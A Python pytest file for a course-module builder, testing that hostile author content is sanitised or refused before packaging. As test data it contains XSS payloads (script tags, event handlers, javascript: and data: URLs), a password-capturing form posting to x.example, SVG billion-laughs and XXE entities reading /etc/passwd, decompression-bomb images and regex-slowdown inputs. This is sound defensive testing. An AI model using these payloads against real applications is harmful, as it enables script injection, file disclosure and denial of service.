"""What someone might write or add to harm learners, from the author's folder to the zip: harmless there, or refused."""

import zipfile

import pytest
from lxml import html

from builder import pipeline
from builder.pipeline import Options
from tests.growth import units
from tests.pictures.test_header import huge_png
from tests.source.small import SMALL
from tests.source.test_svg import USES

FIGURE = "      - type: figure\n        image: media/a.{form}\n        alt: Four people around a table\n"
DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">{}</svg>'
LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
NO_WORDS = ("script", "style", "iframe", "object", "embed", "form", "base", "link", "meta", "img")


@pytest.fixture
def build(tmp_path):
    """What comes of a module with this prose, these blocks and these files; the page as a tree, or none."""

    def of(prose="Words.", blocks="", **files):
        folder = tmp_path / "small"
        (folder / "media").mkdir(parents=True)
        for name, data in files.items():
            stem, _, form = name.rpartition("_")
            (folder / "media" / f"{stem}.{form}").write_bytes(
                data.encode() if isinstance(data, str) else data
            )
        (folder / "more.md").write_text(prose, encoding="utf-8")
        (folder / "module.yaml").write_text(f"{SMALL}      - file: more.md\n{blocks}", encoding="utf-8")
        result = pipeline.build([folder], Options(output=tmp_path / "out"))
        codes = {finding.code for finding in result.findings}
        if not result.built:
            assert not (tmp_path / "out").exists()
            return None, codes
        with zipfile.ZipFile(result.built[0].path) as archive:
            return html.document_fromstring(archive.read("index.html")), codes

    return of


def of_prose(page):
    """The elements that came of what authors write, and their attributes."""
    return [
        element
        for prose in page.xpath("//*[@data-section]//*[contains(@class, 'prose')]")
        for element in prose.iter()
    ]


MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://x.example/a.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<p style="position:fixed;inset:0;background:url(https://x.example/)">All of the page</p>',
    "<style>* { display: none }</style>",
    '<iframe src="https://x.example/"></iframe>',
    '<form action="https://x.example/"><input name="password"></form>',
    '<base href="https://x.example/">',
    '<svg onload="alert(1)"></svg>',
    "<!-- --><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "*a*{style=position:fixed}",
    "[a]{lang='cy' style='position:fixed'}",
    '[a]{lang=cy" onmouseover="alert(1)}',
    '::: note "onclick=alert(1)" style=x\nWords.\n:::',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '```"><script>alert(1)</script>\ncode\n```',
]


@pytest.mark.parametrize("markup", MARKUP)
def test_markup_is_words(markup, build):
    page, _ = build(f"Before.\n\n{markup}\n\nAfter.")
    assert page is not None
    made = of_prose(page)
    said = " ".join(element.text or "" for element in made)
    assert "Before." in said
    assert "After." in said
    for element in made:
        assert element.tag not in NO_WORDS
        assert not {name for name in element.attrib if name.startswith("on") or name == "style"}
    assert len(page.xpath("//script")) == 3, "the page's own"
    assert page.xpath("//style | //iframe | //base | //form | //*[@style]") == []


@pytest.mark.parametrize("formula", ["$\\href{javascript:alert(1)}{x}$", "$\\style{position:fixed}{x}$"])
def test_formulas_calculate_and_do_nothing_else(formula, build):
    page, codes = build(formula)
    assert page is None
    assert "PRO-030" in codes


def test_markup_that_is_words_is_read_as_such(build):
    page, _ = build("Write <script>alert(1)</script> there.")
    assert page is not None
    assert "<script>alert(1)</script>" in page.text_content()


@pytest.mark.parametrize("field", ["title", "description"])
def test_markup_in_fields(field, build, tmp_path):
    folder = tmp_path / "fields"
    folder.mkdir()
    written = SMALL.replace(f"{field}: ", f'{field}: "<script>alert(1)</script><b style=x>" #', 1)
    (folder / "module.yaml").write_text(written, encoding="utf-8")
    result = pipeline.build([folder], Options(output=tmp_path / "out"))
    assert result.built, result.findings
    with zipfile.ZipFile(result.built[0].path) as archive:
        page = html.document_fromstring(archive.read("index.html"))
        manifest = archive.read("imsmanifest.xml").decode()
    assert len(page.xpath("//script")) == 3
    assert page.xpath("//*[@style] | //b") == []
    assert "<script" not in manifest


ADDRESSES = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "java\\script:alert(1)",
    "<java\tscript:alert(1)>",
    "vbscript:x",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    "//x.example/a",
]
NO_AUTOLINKS = {
    "javascript&#58;alert(1)": "javascript:alert(1)",
    "&#106;avascript:alert(1)": "javascript:alert(1)",
    "java\\script:alert(1)": "java\\script:alert(1)",
    "<java\tscript:alert(1)>": "<java\tscript:alert(1)>",
    "//x.example/a": "//x.example/a",
}
"""Those that are words between angle brackets, and how they are read."""


@pytest.mark.parametrize("address", ADDRESSES)
@pytest.mark.parametrize("written", ["[words]({})", "[words][a]\n\n[a]: {}", "<{}>", "![words]({})"])
def test_links_lead_to_pages_or_nowhere(address, written, build):
    page, codes = build(f"Before {written.format(address)}")
    if written == "<{}>" and address in NO_AUTOLINKS:
        # What CommonMark does not take for an address is words.
        assert page is not None
        made = page.xpath("//*[@data-section]//*[contains(@class, 'prose')]")
        assert f"Before <{NO_AUTOLINKS[address]}>" in made[-1].text_content()
        assert [prose.xpath(".//*[@href or @src]") for prose in made] == [[]] * len(made)
    else:
        assert page is None
        assert codes & {"PRO-005", "PRO-007"}


def test_a_link_with_javascript_is_an_error(build):
    page, codes = build("[words](javascript:alert(1))")
    assert page is None
    assert "PRO-005" in codes


@pytest.mark.parametrize(
    "drawing",
    [
        DRAWING.format("<script>alert(1)</script>"),
        DRAWING.format('<circle r="1" onclick="alert(1)"/>'),
        DRAWING.format('<a href="javascript:alert(1)"><circle r="1"/></a>'),
        DRAWING.format('<rect style="fill: url(https://x.example/)"/>'),
        DRAWING.format("<style>@import 'https://x.example/a.css';</style>"),
        DRAWING.format('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">a</p></foreignObject>'),
        f'<!DOCTYPE svg [<!ENTITY a0 "ha">{LAUGHS}]>{DRAWING.format("<text>&a11;</text>")}',
        f'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>{DRAWING.format("<text>&a;</text>")}',
        DRAWING.format(USES),
    ],
    ids=("script", "handler", "link", "style", "import", "foreign", "laughs", "passwd", "uses"),
)
def test_drawings_that_do_more_than_draw_are_refused(drawing, build):
    page, codes = build(blocks=FIGURE.format(form="svg"), a_svg=drawing)
    assert page is None
    assert codes & {"MED-006", "MED-007"}


def test_a_drawing_that_draws_is_built(build):
    page, _ = build(blocks=FIGURE.format(form="svg"), a_svg=DRAWING.format('<circle r="1"/>'))
    assert page is not None
    assert page.xpath("//img/@src") == ["media/a.svg"]


@pytest.mark.parametrize("side", [60_000, 9_000])
def test_pictures_that_unpack_to_gigabytes_are_refused(side, build):
    page, codes = build(blocks=FIGURE.format(form="png"), a_png=huge_png(side, side))
    assert page is None
    assert "MED-015" in codes


RUNS = " ".join("`" * length + "a" for length in range(1, 900))
LINES = {
    "open brackets": "[" * 20_000,
    "pairs": "[]" * 10_000,
    "nested": "[" * 10_000 + "]" * 10_000,
    "links": "[a](" * 5_000,
    "pictures": "![" * 10_000,
    "citations": "[@" * 10_000,
    "footnotes": "^[" * 10_000,
    "languages": "[a]{lang=" * 2_000,
    "backticks": RUNS,
    "emphasis": "*a_ " * 5_000,
    "quotes": ">" * 20_000,
    "angles": "<a " * 7_000,
    "formulas": "$a" * 10_000,
}


TOO_DEEP = ("quotes",)
KEPT = {"backticks": 0.9, "emphasis": 0.5, "formulas": 0.5}
"""How much of it is read as words, where some of it are marks."""


@pytest.mark.timeout(120)
@pytest.mark.parametrize("line", LINES)
def test_a_long_line_made_to_be_slow_is_read_in_a_moment(line, build):
    found = []

    def work():
        found[:] = build(f"Before.\n\n{LINES[line]}\n\nAfter.")

    assert units(work, 200) < 200
    page, codes = found
    if line in TOO_DEEP:
        assert page is None
        assert codes == {"PRO-013"}
    else:
        # Nothing is left out: it is all there, with what stands before and behind it.
        said = "".join(
            page.xpath("//*[@data-section]//*[contains(@class, 'prose')]")[-1].text_content().split()
        )
        assert said.startswith("Before.")
        assert said.endswith("After.")
        assert len(said) >= len("".join(LINES[line].split())) * KEPT.get(line, 1)
